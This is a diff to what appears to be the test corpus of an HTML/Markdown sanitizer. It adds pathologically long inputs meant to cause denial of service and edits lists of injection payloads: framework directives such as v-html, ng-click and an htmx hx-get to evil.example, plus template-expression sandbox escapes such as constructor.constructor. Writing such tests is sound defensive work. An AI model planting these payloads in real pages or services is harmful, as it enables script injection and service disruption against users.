@@ -538,6 +538,9 @@ const denial = [
   `${storm('<b>', 5_000)}a${storm('</b>', 5_000)}`,
   `<b ${numbered(2_000, (index) => `a${index}=b `)}>`,
   // Long ones.
+  ...['>', '[', 'a**', '`a``b', '[a](b'].map((unit) => storm(unit, 20_000)),
+  `| a |${storm(' ', 20_000)}|\n|---|---|`,
+  `<!-- ${storm('x ', 20_000)}`,
   storm('a', 50_000),
   storm('\u6587', 50_000),
   `# a${' '.repeat(20_000)}#`,
@@ -561,25 +564,16 @@ const denial = [
 const directives = [
   ...['title="lit$123456789$"', 'title$lit$="x" .title="x" ?hidden="x" @click="attacked()"'],
   ...['@click=${attacked}', `.innerHTML="${IMAGE}"`, '?open=${true}', 'ng-app ng-csp ng-click="attacked()"'],
-  ...['ng-include="\'//evil.example/\'"', 'v-html="attacked()" v-on:click="attacked()" :title="attacked()"'],
-  ...['x-data x-init="attacked()"', 'hx-get="https://evil.example/" hx-trigger="load"'],
-  ...['hx-on:click="attacked()" hx-swap-oob="true"', 'data-bind="html: attacked()"'],
-  ...['data-controller=x data-action="click->x#attacked"', '_="on load call attacked()"'],
-  ...['data-turbo-stream data-method=delete data-remote=true', 'wire:init="attacked" livewire:id=x'],
-  ...['is=x-evil', '(click)="attacked()" [innerHTML]="attacked()" *ngIf="attacked()"'],
-  ...['on:click={attacked} use:action={attacked}', `dangerouslySetInnerHTML={{__html:"${IMAGE}"}}`],
-  ...[`unsafeHTML="${SCRIPT}"`],
+  ...['v-html="attacked()" v-on:click="attacked()" :title="attacked()"', 'x-data x-init="attacked()"'],
+  ...['hx-get="https://evil.example/" hx-trigger="load" hx-on:click="attacked()"', 'is=x-evil'],
+  ...['(click)="attacked()" [innerHTML]="attacked()" *ngIf="attacked()"', 'on:click={attacked}'],
+  `dangerouslySetInnerHTML={{__html:"${IMAGE}"}}`,
 ];
 /** Expressions that templates evaluate. */
 const expressions = [
-  ...['${attacked()}', 'a ${constructor.constructor("attacked()")()} b'],
-  ...['#{attacked()} @{attacked()} *{attacked()}', '{{attacked()}}'],
-  ...["{{constructor.constructor('attacked()')()}}", "{{$on.constructor('attacked()')()}}"],
-  ...["{{_c.constructor('attacked()')()}}", '{{{attacked()}}}', '{{&attacked}}{{#if a}}{{/if}}'],
-  ...['{{lit-123456789}}', '[[attacked()]] [(attacked())]'],
-  ...['<% attacked() %> <%= attacked() %> <?php attacked(); ?>'],
-  ...['<#assign x="freemarker.template.utility.Execute"?new()>', '{% raw %}attacked(){% endraw %}'],
-  '$${attacked()}$$ \\(attacked()\\) \\[attacked()\\]',
+  ...['${attacked()}', '#{attacked()} @{attacked()} *{attacked()}', '{{lit-123456789}}'],
+  ...["{{constructor.constructor('attacked()')()}}", '{{{attacked()}}}', '[[attacked()]] [(attacked())]'],
+  ...['<% attacked() %> <?php attacked(); ?>', '$${attacked()}$$ \\(attacked()\\) \\[attacked()\\]'],
 ];
 
 const template = [
